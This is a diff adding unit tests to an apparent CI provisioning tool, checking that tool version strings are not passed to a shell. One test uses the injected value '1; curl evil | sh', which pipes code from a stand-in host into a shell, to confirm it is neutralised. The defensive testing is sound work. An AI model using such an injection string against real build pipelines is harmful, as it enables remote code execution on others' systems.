@@ -106,3 +106,17 @@ def test_linters_of_rust_are_added_to_its_image() -> None:
 
     assert provision(lint, spelled).commands == ("rustup component add clippy rustfmt",)
     assert provision(job(SetupTool(rust, "1.98")), spelled).commands == ()
+
+
+def test_a_version_is_no_shell_text() -> None:
+    found = provision(job(SetupTool(UV, "1; curl evil | sh"), SetupTool(PYTHON, "3.13")), spelled)
+
+    assert "curl" not in found.image + " ".join(found.commands)
+
+
+def test_names_of_extensions_are_a_version_too() -> None:
+    extensions = Tool("extensions", "Extensions", commands="install {version}")
+
+    assert provision(job(SetupTool(extensions, "intl @composer")), spelled).commands == (
+        "install intl @composer",
+    )
